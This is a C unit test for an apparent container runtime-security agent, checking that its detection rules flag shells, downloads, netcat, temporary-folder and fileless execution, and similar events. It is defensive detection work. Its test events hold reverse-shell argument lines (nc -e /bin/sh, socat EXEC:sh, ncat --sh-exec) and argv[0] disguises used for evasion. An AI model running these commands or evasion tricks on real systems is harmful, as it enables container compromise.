/* The rules that come with picket: each fires on what it is for, and not on what looks like it. */
#include "agent/rules/rules.h"
#include "agent/rules/rules_json.h"
#include "vectors.h"

static const char path[] = TEST_ROOT "/agent/packaging/rules.d/picket_rules.yaml";

#define EXEC "{\"evt.type\":\"execve\",\"evt.num\":7,"
#define IN_CONTAINER EXEC "\"container.id\":\"0123456789ab\",\"user.uid\":1000,\"proc.tty\":0,\"proc.cwd\":\"/app/\","
#define ON_HOST EXEC "\"container.id\":\"host\",\"user.uid\":1000,\"proc.tty\":0,\"proc.cwd\":\"/root/\","
/* exepath, name, args and parent of a program. */
#define PROGRAM(exepath, name, args, parent)                                                       \
	"\"proc.exepath\":\"" exepath "\",\"proc.exe\":\"" name "\",\"proc.name\":\"" name                  \
	"\",\"proc.args\":\"" args "\",\"proc.cmdline\":\"" name " " args "\",\"proc.pname\":\"" parent "\""

#define TERMINAL "Terminal shell in a container"
#define SHELL "Shell in a container"
#define SERVER "Shell started by a server in a container"
#define DOWNLOAD "Download tool in a container"
#define NETCAT "Netcat in a container"
#define NETCAT_RUNS "Netcat runs a program in a container"
#define ROOT "Root in a container of another user"
#define PACKAGES "Package manager in a container"
#define SHM "Execution from shared memory"
#define TMP "Execution from a temporary folder in a container"
#define MEMFD "Fileless execution"
#define DRIFT "Program not of the image in a container"
#define LOADER "Program started through the dynamic loader in a container"
#define NSENTER "Nsenter in a container"

/* The same with an argv[0] of its own, and in a folder. */
#define DISGUISED(exepath, argv0, name, args, parent)                                              \
	"\"proc.exepath\":\"" exepath "\",\"proc.exe\":\"" argv0 "\",\"proc.name\":\"" name                 \
	"\",\"proc.args\":\"" args "\",\"proc.cmdline\":\"" name " " args "\",\"proc.pname\":\"" parent "\""
#define IN_FOLDER(cwd) EXEC "\"container.id\":\"01\",\"proc.tty\":0,\"proc.cwd\":\"" cwd "\","
#define GLIBC_LOADER "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"

static const struct {
	const char *event, *want; /* names with a comma after each, in order */
} cases[] = {
	/* docker exec -it c sh, docker run image sh -c ..., a script's own shells, on the host */
	{ IN_CONTAINER "\"proc.tty\":34816," PROGRAM("/bin/busybox", "sh", "", "containerd-shim") "}", SHELL "," },
	{ EXEC "\"container.id\":\"0123\",\"proc.tty\":34816," PROGRAM("/bin/dash", "sh", "", "runc") "}", TERMINAL "," },
	{ EXEC "\"container.id\":\"0123\",\"proc.tty\":34816,\"proc.name\":\"bash\"}", TERMINAL "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "containerd-shim") "}", SHELL "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "bash") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sh -c id", "runc") "}", SHELL "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sha1sum x", "runc") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c id", "nginx") "}", SERVER "," },
	{ IN_CONTAINER PROGRAM("/usr/sbin/nginx", "nginx", "-g x", "containerd-shim") "}", "" },
	{ ON_HOST PROGRAM("/bin/bash", "bash", "", "sshd") "}", "" },
	/* downloads */
	{ IN_CONTAINER PROGRAM("/usr/bin/curl", "curl", "http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "wget", "http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "wget http://x", "sh") "}", DOWNLOAD "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "cat wget ", "sh") "}", "" },
	{ ON_HOST PROGRAM("/usr/bin/curl", "curl", "http://x", "bash") "}", "" },
	/* netcat */
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "-z db 5432", "sh") "}", NETCAT "," },
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "db-exec 5432", "sh") "}", NETCAT "," },
	{ IN_CONTAINER PROGRAM("/bin/nc", "nc", "-e /bin/sh 1.2.3.4 9", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "nc -lvpe /bin/sh 9", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/ncat", "ncat", "1.2.3.4 9 --sh-exec id", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/socat", "socat", "TCP:1.2.3.4:9 EXEC:sh", "sh") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/socat", "socat", "TCP-LISTEN:80 TCP:db:80", "sh") "}", NETCAT "," },
	/* root where another user is declared */
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"app\",\"proc.name\":\"id\"}", ROOT "," },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"1000:1000\",\"proc.name\":\"id\"}",
	  ROOT "," },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"0:5\",\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"container.user\":\"root\",\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":0,\"proc.name\":\"id\"}", "" },
	{ EXEC "\"container.id\":\"0123\",\"user.uid\":1000,\"container.user\":\"app\",\"proc.name\":\"id\"}", "" },
	/* packages */
	{ IN_CONTAINER PROGRAM("/sbin/apk", "apk", "add nmap", "sh") "}", PACKAGES "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/dpkg", "dpkg", "-i x", "apt-get") "}", "" },
	{ ON_HOST PROGRAM("/usr/bin/apt", "apt", "update", "bash") "}", "" },
	/* places */
	{ IN_CONTAINER PROGRAM("/tmp/x", "x", "", "python3") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "/tmp/x.py", "python3") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "-u /tmp/x.py", "java") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/python3.11", "python3", "/app/x.py /tmp/out", "java") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "sh", "-x /tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "sh /tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "//bin/../tmp/x.sh", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "/tmp/x.sh \\n", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "/app/tmp/x.sh", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/dash", "sh", "-c cat /tmp/x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "x.sh", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "-u ./x", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/a/") PROGRAM("/usr/bin/perl5.36", "perl", "x.pl", "sh") "}", TMP "," },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "-c ls", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/bash", "bash", "-euo pipefail -c ls", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/dash", "sh", "/app/x.sh", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/usr/bin/python3.11", "python3", "-m pip", "java") "}", "" },
	/* busybox is a shell only where it is told to be one */
	{ IN_CONTAINER PROGRAM("/bin/busybox", "mkdir", "/tmp/x", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "touch", "/dev/shm/x", "sh") "}", "" },
	{ IN_CONTAINER PROGRAM("/bin/busybox", "busybox", "cat /tmp/x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "cat", "./x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "busybox", "cat x", "sh") "}", "" },
	{ IN_FOLDER("/tmp/") PROGRAM("/bin/busybox", "busybox", "sh x", "sh") "}", TMP "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/perl", "x.pl", "/tmp/x.pl", "java") "}", TMP "," },
	{ EXEC "\"container.id\":\"01\",\"proc.cwd\":\"/var/tmp/\"," PROGRAM("/somewhere/x", "./x", "", "java") "}", TMP "," },
	{ ON_HOST PROGRAM("/tmp/x", "x", "", "bash") "}", "" },
	{ ON_HOST PROGRAM("/dev/shm/x", "x", "", "bash") "}", SHM "," },
	{ EXEC "\"container.id\":\"host\",\"proc.cwd\":\"/dev/shm/\"," PROGRAM("/bin/bash", "x.sh", "./x.sh", "bash") "}",
	  SHM "," },
	{ IN_CONTAINER PROGRAM("/usr/bin/cat", "cat", "/dev/shm/x", "java") "}", "" },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:x", "x", "", "bash") "}", MEMFD "," },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:runc_cloned:/proc/self/exe", "6", "init", "runc") "}", "" },
	{ ON_HOST "\"proc.is_exe_from_memfd\":true," PROGRAM("memfd:runc_cloned:/proc/self/exe", "6", "init", "bash") "}",
	  MEMFD "," },
	{ IN_CONTAINER PROGRAM("/dev/x", "x", "", "java") "}", SHM "," },
	/* other names for the same: links, copies, argv[0], /proc/self/fd */
	{ IN_CONTAINER DISGUISED("/usr/bin/curl", "/x", "x", "http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "wget", "5", "http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "busybox", "y", "wget http://x", "java") "}", DOWNLOAD "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "nc", "y", "-e sh x 1", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER PROGRAM("/bin/nc.openbsd", "nc", "\\n -e sh x 1", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER DISGUISED("/usr/bin/socat1", "y", "y", "TCP:x:1 EXEC:sh", "java") "}", NETCAT_RUNS "," },
	{ IN_CONTAINER DISGUISED("/usr/bin/apt-get", "y", "y", "install x", "java") "}", PACKAGES "," },
	{ IN_CONTAINER DISGUISED("/bin/bash", "/y", "y", "-c id", "java") "}", SERVER "," },
	{ IN_CONTAINER DISGUISED("/bin/bash", "sh", "y", "-c id", "x") "}", SHELL "," },
	{ IN_CONTAINER DISGUISED("/bin/busybox", "sh", "y", "", "x") "}", SHELL "," },
	/* a script's shell is its file and its argv[0] */
	{ IN_CONTAINER DISGUISED("/bin/dash", "/bin/sh", "entrypoint.sh", "/entrypoint.sh a", "runc") "}", "" },
	{ IN_CONTAINER DISGUISED("/bin/dash", "/bin/sh", "entrypoint.sh", "-e /entrypoint.sh", "runc") "}", "" },
	/* a parent that only calls itself a shell */
	{ IN_CONTAINER "\"proc.pexepath\":\"/bin/dash\"," PROGRAM("/bin/dash", "sh", "-c id", "sh") "}", "" },
	{ IN_CONTAINER "\"proc.pexepath\":\"/bin/busybox\"," PROGRAM("/bin/busybox", "sh", "-c id", "sh") "}", "" },
	{ IN_CONTAINER "\"proc.pexepath\":\"/app/x\"," PROGRAM("/bin/dash", "sh", "-c id", "sh") "}", SHELL "," },
	/* the loader, and what only asks it */
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "/app/x", "java") "}", LOADER "," },
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "/tmp/x", "java") "}", TMP "," LOADER "," },
	{ IN_CONTAINER DISGUISED(GLIBC_LOADER, "ldd", "y", "/app/x", "java") "}", LOADER "," },
	{ IN_CONTAINER PROGRAM("/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64", "/bin/x", "java") "}", LOADER "," },
	{ IN_CONTAINER DISGUISED("/lib/ld-musl-x86_64.so.1", "ldd", "ldd", "/bin/x", "java") "}", "" },
	{ IN_CONTAINER PROGRAM(GLIBC_LOADER, "ld-linux-x86-64", "--verify /bin/x", "ldd") "}", "" },
	/* not of the image; other namespaces */
	{ IN_CONTAINER "\"proc.is_exe_upper_layer\":true," PROGRAM("/usr/bin/x", "x", "", "java") "}", DRIFT "," },
	{ ON_HOST "\"proc.is_exe_upper_layer\":true," PROGRAM("/usr/bin/x", "x", "", "java") "}", "" },
	{ IN_CONTAINER PROGRAM("/usr/bin/nsenter", "nsenter", "-t 1 -a sh", "java") "}", NSENTER "," },
	/* nothing */
	{ IN_CONTAINER PROGRAM("/usr/bin/id", "id", "", "java") "}", "" },
};

struct seen {
	struct buf names;
};

static void seen_match(void *arg, const struct rules_match *m)
{
	struct seen *s = arg;

	buf_printf(&s->names, "%s,", m->rule);
	assert_true(m->description[0] && m->tag_count > 2);
	assert_int_equal(strchr(m->description, '\n'), NULL);
	assert_true(slice_find(m->output, SLICE_LIT("container_id=")) > 0);
	assert_true(slice_find_char(m->output, '%') < 0);
}

static void run(struct rules *r, const char *event, struct seen *s)
{
	CLEANUP(cJSON_Deletep) cJSON *json = NULL;

	assert_int_equal(json_parse(slice_of(event), 1 << 20, &json, NULL), 0);
	struct rules_source src = rules_json_source(json);
	buf_reset(&s->names);
	(void)rules_eval(r, "execve", &src, seen_match, s);
}

static void each_rule_fires_on_what_it_is_for_and_on_nothing_else(void **state)
{
	CLEANUP(rules_freep) struct rules *r = NULL;
	const char *const paths[] = { path };
	struct rules_report report;
	struct err err = { 0 };
	struct seen s = { 0 };

	(void)state;
	if (rules_load(paths, 1, &r, &report, &err) < 0)
		fail_msg("%s", err.msg);
	assert_int_equal(report.warnings, 0);
	assert_int_equal(rules_count(r), 15);
	assert_true(rules_wants(r, "execve") && !rules_wants_all(r) && !rules_wants(r, "open"));
	buf_init(&s.names, 0);
	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
		run(r, cases[i].event, &s);
		if (!slice_is(buf_slice(&s.names), cases[i].want))
			fail_msg("%s\nraises '%.*s', not '%s'", cases[i].event, SLICE_FMT(buf_slice(&s.names)),
				 cases[i].want);
	}
	buf_fini(&s.names);
	rules_report_fini(&report);
}

/* As the comment in the file says. */
static void the_allowed_list_speaks_once_it_is_configured(void **state)
{
	static const char own[] = "- list: allowed_processes\n  items: [nginx]\n  override: {items: append}\n"
				  "- macro: allowed_processes_configured\n"
				  "  condition: (container.image.repository = nginx)\n";
	static const struct {
		const char *event, *want;
	} rows[] = {
		{ IN_CONTAINER "\"container.image.repository\":\"nginx\",\"proc.name\":\"nginx\"}", "" },
		{ IN_CONTAINER "\"container.image.repository\":\"nginx\",\"proc.name\":\"id\"}",
		  "Program outside the allowed list," },
		{ IN_CONTAINER "\"container.image.repository\":\"redis\",\"proc.name\":\"id\"}", "" },
		{ ON_HOST "\"proc.name\":\"id\"}", "" },
	};
	CLEANUP(rules_freep) struct rules *r = NULL;
	CLEANUP(buf_finip) struct buf text = { 0 };
	struct err err = { 0 };
	struct seen s = { 0 };

	(void)state;
	assert_true(file_read(path, 1 << 20, &text, NULL) >= 0);
	buf_add_str(&text, own);
	if (rules_load_text("both", buf_slice(&text), &r, NULL, &err) < 0)
		fail_msg("%s", err.msg);
	buf_init(&s.names, 0);
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		run(r, rows[i].event, &s);
		assert_true(slice_is(buf_slice(&s.names), rows[i].want));
	}
	buf_fini(&s.names);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(each_rule_fires_on_what_it_is_for_and_on_nothing_else),
		cmocka_unit_test(the_allowed_list_speaks_once_it_is_configured),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
